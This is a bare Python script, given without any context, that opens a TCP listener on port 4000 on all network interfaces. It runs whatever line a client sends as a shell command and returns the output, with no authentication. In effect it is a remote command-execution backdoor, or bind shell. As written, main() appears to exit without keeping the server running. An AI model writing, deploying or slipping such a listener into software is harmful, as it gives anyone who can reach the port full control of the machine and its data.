import asyncio


async def serve(reader, writer):
    line = await reader.readline()
    process = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
    writer.write((await process.communicate())[0])


async def main():
    await asyncio.start_server(serve, "0.0.0.0", 4000)


asyncio.run(main())
